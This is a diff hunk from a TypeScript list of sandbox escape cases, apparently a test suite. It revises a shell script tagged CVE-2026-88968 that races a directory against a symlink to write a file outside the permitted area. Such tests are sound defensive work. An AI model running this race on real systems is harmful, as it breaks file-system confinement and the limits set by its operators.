@@ -142,9 +142,9 @@ const escapes: readonly Escape[] = [
     id: 'CVE-2026-88968',
     how: 'exchanges a directory for a link while it is written to',
     line: ({ outside }) => `mkdir d
-(while [ ! -e stop ]; do mv d e && ln -s ${outside} d && rm d && mv e d; done) 2>/dev/null &
-n=0; while [ $n -lt 3000 ] && [ ! -e ${outside}/victim ]; do echo x > d/victim; n=$((n + 1)); done 2>/dev/null
-touch stop; wait`,
+(while :; do echo x > d/victim; done) 2>/dev/null &
+n=0; while [ $n -lt 100 ] && [ ! -e ${outside}/victim ]; do mv d e && ln -s ${outside} d && rm d && mv e d; n=$((n + 1)); done 2>/dev/null
+kill $!`,
     victim,
   },
   {
